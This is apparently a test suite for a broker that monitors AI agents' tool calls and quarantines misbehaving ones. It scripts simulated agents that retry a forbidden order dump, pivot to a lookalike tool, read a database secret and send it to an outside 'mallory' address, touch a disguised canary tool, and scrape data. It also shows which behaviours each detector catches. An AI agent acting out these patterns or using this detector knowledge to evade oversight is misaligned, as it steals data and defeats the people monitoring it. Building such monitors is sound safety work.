"""An agent goes wrong while it works, in each of the ways that are watched for: its session ends, its credentials are refused,
its instance is refused, and others of its class go on undisturbed."""

from __future__ import annotations

import json
import time
from collections.abc import Callable, Iterator

import psycopg
import pytest

from broker.api.v1 import tools_pb2
from broker.client import Svid
from broker.demo.callers import Answer, Caller
from broker.devstack import broker_process
from broker.usecases.usual import KEPT, read
from tests.threats.world import World, key, until

QUICKLY = 5.0
"""Seconds on a machine that does other things as well; how quick it is, is measured by `bench.anomaly`."""
USUAL = ("read-a", "read-b", "read-c")
TASKS = 60

TOOLS = """
  read-a: {effect: read, resource: a, reads: {classification: internal}}
  read-b: {effect: read, resource: b, reads: {classification: internal}}
  read-c: {effect: read, resource: c, reads: {classification: internal}}
  read-secret: {effect: read, resource: secrets/database, reads: {classification: restricted}}
  dump-orders: {effect: read, resource: orders-of-all, destination: {host: 127.0.0.1, port: 1, scheme: postgresql}}
  copy-orders: {effect: read, resource: orders-of-all, destination: {host: 127.0.0.1, port: 1, scheme: postgresql}}
  old-admin-console: {effect: execute, resource: console, canary: true}
"""
NAMES = "read-a, read-b, read-c, read-secret, dump-orders, copy-orders, old-admin-console"
ANSWERS = """
answers:
  - {do: quarantine}
"""
POLICY = """
@id("test.no-dumps")
@denial("structural")
forbid (principal, action == Tasklease::Action::"call", resource == Tasklease::Tool::"dump-orders");
"""


@pytest.fixture
def watched(world: World) -> Iterator[World]:
    """With tools for it, a canary among them, and the hardest answer to whatever is found."""
    more = world.catalog_without_answers().replace(
        "query-orders, read-mail", f"query-orders, {NAMES}, read-mail"
    )
    catalog = more.replace("\ntools:\n", "\ntools:" + TOOLS, 1) + ANSWERS
    with world.taking_up(catalog), world.ruled_by(POLICY):
        yield world


def call(caller: Caller, task_id: str, tool: str, **arguments: object) -> Answer:
    wanted = tools_pb2.Call(tool=tool, arguments=json.dumps(arguments), idempotency_key=key())
    request = tools_pb2.AuthorizeActionRequest(task_id=task_id, call=wanted)
    return caller.call("AuthorizeAction", request, timeout=20)


def declared(world: World, caller: Caller) -> str:
    answer = world.try_declare(caller, scope=None)
    assert answer.ok, answer
    return str(answer.message.task.task_id)


class Session:
    """A session at PostgreSQL, of a task that is at work."""

    def __init__(self, world: World, caller: Caller, task_id: str) -> None:
        self._world = world
        self.response = world.acquire(caller, task_id)
        secret = self.response.secret
        dsn = world.stack.postgres.dsn(secret["username"], secret["password"])
        self._connection = psycopg.connect(dsn, autocommit=True)

    def works(self) -> bool:
        try:
            self._connection.execute("SELECT 1")
        except psycopg.Error:
            return False
        return True

    def refused(self) -> bool:
        return not self.works() and not self._world.lets_in(self.response)

    def close(self) -> None:
        self._connection.close()


def findings(world: World, svid: Svid) -> set[tuple[str, str]]:
    """Detectors, and what was answered."""
    found = world.rows("SELECT detector, answer FROM findings WHERE instance = ?", svid.spiffe_id)
    return {(str(detector), str(answer)) for detector, answer in found}


# How an agent goes wrong: each is given a connection and a task, and goes on until it is stopped.

Wrong = Callable[[World, Caller, Svid, str], None]


def hammers(_world: World, caller: Caller, _svid: Svid, task_id: str) -> None:
    for _ in range(12):
        if not call(caller, task_id, "dump-orders").ok:
            return


def pivots(_world: World, caller: Caller, _svid: Svid, task_id: str) -> None:
    assert not call(caller, task_id, "dump-orders").message.authorization.allowed
    call(caller, task_id, "copy-orders")


def escalates(_world: World, caller: Caller, _svid: Svid, task_id: str) -> None:
    assert call(caller, task_id, "read-secret").ok
    call(caller, task_id, "send-report", recipient="mallory@theirs.example")


def touches_a_canary(_world: World, caller: Caller, _svid: Svid, task_id: str) -> None:
    call(caller, task_id, "old-admin-console")


def drifts(_world: World, caller: Caller, _svid: Svid, task_id: str) -> None:
    for tool in ("read-c", "read-b", "read-a") * 4:
        if not call(caller, task_id, tool).ok:
            return


def scrapes(_world: World, caller: Caller, _svid: Svid, task_id: str) -> None:
    for _ in range(200):
        if not call(caller, task_id, "read-a").ok:
            return


def uses_what_is_over(world: World, caller: Caller, _svid: Svid, _task_id: str) -> None:
    """Another task of the instance has ended, and is used again and again."""
    over = declared(world, caller)
    assert world.complete(caller, over).ok
    time.sleep(1.5)
    for _ in range(8):
        assert not call(caller, over, "read-a").ok


def learned(world: World) -> int:
    """Completed tasks that were learned from."""
    rows = world.rows("SELECT data FROM models")
    return read(rows[0][0]).of("reconcile-invoices").tasks if rows else 0


def teach(world: World) -> None:
    """Do what is usual, often enough, and let the broker take it up."""
    if learned(world) >= TASKS - 5:
        return
    with world.calling() as caller:
        for _ in range(TASKS):
            task_id = declared(world, caller)
            for tool in USUAL:
                assert call(caller, task_id, tool).message.authorization.allowed
            assert world.complete(caller, task_id).ok
    until(lambda: learned(world) >= TASKS - 5, "enough was learned", patience=60)
    time.sleep(KEPT.total_seconds())  # it reads what was learned only so often


@pytest.mark.parametrize(
    ("goes_wrong", "detector"),
    [
        (hammers, "retry-storm"),
        (pivots, "pivot"),
        (escalates, "escalation"),
        (touches_a_canary, "canary"),
        (uses_what_is_over, "identity-misuse"),
        (drifts, "drift"),
        (scrapes, "volume"),
    ],
    ids=lambda value: getattr(value, "__name__", value),
)
def test_who_goes_wrong_loses_everything_and_others_go_on(
    watched: World, goes_wrong: Wrong, detector: str
) -> None:
    if detector in {"drift", "volume"}:
        teach(watched)
    bad, good = watched.svid(), watched.svid()
    with watched.calling(bad) as caller, watched.calling(good) as other:
        task_id, others = declared(watched, caller), declared(watched, other)
        with watched.alive(good, others), watched.alive(bad, task_id):  # so that nothing else ends them
            session, undisturbed = Session(watched, caller, task_id), Session(watched, other, others)
            assert session.works()
            goes_wrong(watched, caller, bad, task_id)
            until(session.refused, "its session has ended and its credential is refused", patience=QUICKLY)
            refused = call(caller, task_id, "read-a")
            assert refused.reason in {"INSTANCE_QUARANTINED", "TASK_NOT_ACTIVE"}, refused
            until(
                lambda: watched.try_declare(caller).reason == "INSTANCE_QUARANTINED",
                "its instance is refused",
                patience=QUICKLY,
            )
            assert (detector, "quarantine") in findings(watched, bad)
            assert undisturbed.works()
            assert call(other, others, "read-a").message.authorization.allowed
            assert findings(watched, good) == set()
        session.close()
        undisturbed.close()
    until(lambda: "lease.revoked" in watched.kinds(task_id), "that is in the audit trail", patience=QUICKLY)
    until(
        lambda: (
            watched.rows("SELECT 1 FROM findings WHERE instance = ? AND answered_at IS NULL", bad.spiffe_id)
            == []
        ),
        "the answer is known to have taken effect",
        patience=QUICKLY,
    )
    watched.verify_trail()


def test_what_was_found_outlives_the_broker(watched: World) -> None:
    svid = watched.svid()
    with watched.calling(svid) as caller:
        task_id = declared(watched, caller)
        watched.acquire(caller, task_id)
        touches_a_canary(watched, caller, svid, task_id)
    watched.stack.stop_part(broker_process.NAME)
    watched.stack.up()
    with watched.calling(svid) as caller:
        assert watched.try_declare(caller).reason == "INSTANCE_QUARANTINED"
    until(lambda: not watched.users(), "nothing that it held is left")
    assert ("canary", "quarantine") in findings(watched, svid)


def test_a_canary_looks_like_any_other_tool(watched: World) -> None:
    with watched.calling() as caller:
        task_id = declared(watched, caller)
        answer = caller.call("ListTools", tools_pb2.ListToolsRequest(task_id=task_id))
        by_name = {tool.name: tool for tool in answer.message.tools}
        assert "old-admin-console" in by_name
        canary, other = by_name["old-admin-console"], by_name["read-a"]
        canary.name = other.name
        assert canary.SerializeToString() == other.SerializeToString()
        watched.complete(caller, task_id)


def test_an_honest_agent_that_retries_is_left_alone(watched: World) -> None:
    svid = watched.svid()
    with watched.calling(svid) as caller:
        task_id = declared(watched, caller)
        assert not call(caller, task_id, "dump-orders").message.authorization.allowed
        for tool in USUAL:
            assert call(caller, task_id, tool).message.authorization.allowed
            time.sleep(0.05)
        assert watched.complete(caller, task_id).ok
    assert findings(watched, svid) == set()
